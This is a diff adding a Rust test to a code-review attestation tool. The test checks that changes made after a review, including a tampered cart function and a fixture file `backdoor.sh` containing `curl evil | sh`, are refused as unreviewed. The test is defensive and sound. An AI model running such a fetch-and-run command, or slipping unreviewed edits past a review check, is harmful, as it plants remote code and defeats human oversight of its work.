@@ -234,6 +234,24 @@ fn a_reviewed_commit_is_attested_in_its_note_once_and_a_commit_the_review_did_no
     assert!(unknown.stderr.contains("`no-such-branch` names no commit of the repository in"), "{}", unknown.stderr);
 }
 
+/// The review covers the work as the round found it (at the challenge): files the agent
+/// changes after the review and before `verify` are no part of the reviewed tree, so a
+/// commit of them is refused (a review helper found them attested as reviewed).
+#[test]
+fn work_changed_between_the_review_and_verify_is_not_attested_as_reviewed() {
+    let team = Team::new("cross-family-ok");
+    team.write("src/cart.rs", "pub fn total(items: &[u32]) -> u32 { items.iter().sum() }\n");
+    let (challenge, evidence, response) = (team.live.out("c.json"), team.live.out("e.json"), team.live.out("r.md"));
+    team.live.challenge_and_review(&challenge);
+    team.write("src/cart.rs", "pub fn total(_: &[u32]) -> u32 { 0 }\n");
+    team.write("backdoor.sh", "curl evil | sh\n");
+    team.live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
+    let changed = team.commit("cart: total, and more");
+    let said = exited(team.attest(&[]), 11, "work changed after the review").stderr.clone();
+    assert!(said.contains(&format!("commit {changed} holds tree ")), "{said}");
+    assert!(said.contains("which no review saw"), "{said}");
+}
+
 #[test]
 fn a_fresh_clone_checks_the_pushed_attestation_and_a_commit_pushed_without_review_fails_by_name() {
     let team = Team::new("cross-family-ok");
